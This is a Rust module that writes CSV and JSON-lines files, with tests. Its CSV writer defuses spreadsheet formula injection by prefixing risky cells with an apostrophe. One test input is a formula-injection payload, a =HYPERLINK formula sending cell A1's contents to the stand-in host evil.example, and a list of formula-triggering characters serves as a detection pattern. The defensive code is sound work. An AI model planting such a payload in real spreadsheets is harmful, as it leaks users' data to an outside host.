//! Tables as files: CSV that a spreadsheet cannot be tricked with, and JSON lines for machines.
//!
//! A cell that begins like a formula would be run by the spreadsheet that opens it, with the rights of whoever does, and much of
//! what stands in a log was written by others. Such a cell gets an apostrophe in front ([`cell`], OWASP ASVS 5.0 §1.2.10), here
//! and on the command line; the rest is RFC 4180. JSON needs no such care: nothing evaluates it.

use serde::Serialize;

/// `text/csv` as spreadsheets read it: with a mark that says UTF-8.
pub const CSV: &str = "text/csv; charset=utf-8; header=present";

/// One JSON object a line.
pub const JSON_LINES: &str = "application/jsonl; charset=utf-8";

/// First characters that make a cell a formula, or what a spreadsheet takes for blanks before one.
const FORMULA: [char; 13] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '｜'];

/// The text of a cell that no spreadsheet runs.
pub fn cell(text: &str) -> String {
    let first = text.trim_start_matches([' ', '\u{a0}', '\u{feff}']).chars().next();
    if first.is_some_and(|first| FORMULA.contains(&first)) || text.starts_with(FORMULA) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A table as CSV, written row by row: a long one is never held as anything but its text.
#[derive(Debug)]
pub struct Csv(String);

impl Csv {
    /// With a line of names.
    pub fn new<const N: usize>(names: &[&str; N]) -> Self {
        let mut csv = Self(String::from('\u{feff}'));
        csv.row(names);
        csv
    }

    pub fn row(&mut self, cells: &[impl AsRef<str>]) {
        for (number, text) in cells.iter().enumerate() {
            if number > 0 {
                self.0.push(',');
            }
            self.0.push_str(&quoted(&cell(text.as_ref())));
        }
        self.0.push_str("\r\n");
    }

    pub fn into_text(self) -> String {
        self.0
    }
}

fn quoted(cell: &str) -> String {
    if cell.contains(['"', ',', '\r', '\n', ';', '\t', '\'']) || cell.starts_with(' ') || cell.ends_with(' ') {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

/// Adds a value as a line of JSON.
pub fn json_line(text: &mut String, value: &impl Serialize) -> Result<(), serde_json::Error> {
    text.push_str(&serde_json::to_string(value)?);
    text.push('\n');
    Ok(())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_cell_that_begins_like_a_formula_is_text() {
        let check = |cell: &str, written: &str| {
            let mut csv = Csv::new(&["a"]);
            csv.row(&[cell]);
            assert_eq!(csv.into_text(), format!("\u{feff}a\r\n{written}\r\n"), "{cell:?}");
        };
        check("plain", "plain");
        check("", "");
        check("=1+1", "\"'=1+1\"");
        check("+49 30", "\"'+49 30\"");
        check("-1", "\"'-1\"");
        check("@SUM(A1)", "\"'@SUM(A1)\"");
        check("\t=1", "\"'\t=1\"");
        check("\r=1", "\"'\r=1\"");
        check("\0=1", "\"'\0=1\"");
        check(" =1", "\"' =1\"");
        check("\u{a0}=1", "\"'\u{a0}=1\"");
        check("＝1", "\"'＝1\"");
        check("＋1", "\"'＋1\"");
        check("＠1", "\"'＠1\"");
        check("members/bank-a", "members/bank-a");
        check("a=1", "a=1");
        check("a,\"b\"", "\"a,\"\"b\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check(
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"",
        );
    }

    #[test]
    fn values_stand_one_a_line() {
        let mut text = String::new();
        json_line(&mut text, &serde_json::json!({"note": "=1\n2"})).expect("plain values");
        json_line(&mut text, &serde_json::json!({})).expect("plain values");
        assert_eq!(text, "{\"note\":\"=1\\n2\"}\n{}\n");
    }

    proptest! {
        #[test]
        fn what_a_reader_of_csv_gets_back_is_the_table_and_no_cell_is_a_formula(
            rows in prop::collection::vec(prop::collection::vec(any::<String>(), 3), 0..8),
        ) {
            let mut csv = Csv::new(&["a", "b", "c"]);
            rows.iter().for_each(|row| csv.row(row));
            let text = csv.into_text();
            let mut reader = ::csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let read: Vec<Vec<String>> =
                reader.records().map(|row| row.expect("well-formed").iter().map(str::to_owned).collect()).collect();
            // A row of empty cells alone is written, and read, like any other.
            let shown: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|text| cell(text)).collect()).collect();
            prop_assert_eq!(&read, &shown);
            for read in read.iter().flatten() {
                prop_assert!(!read.starts_with(FORMULA), "{:?}", read);
            }
        }
    }
}
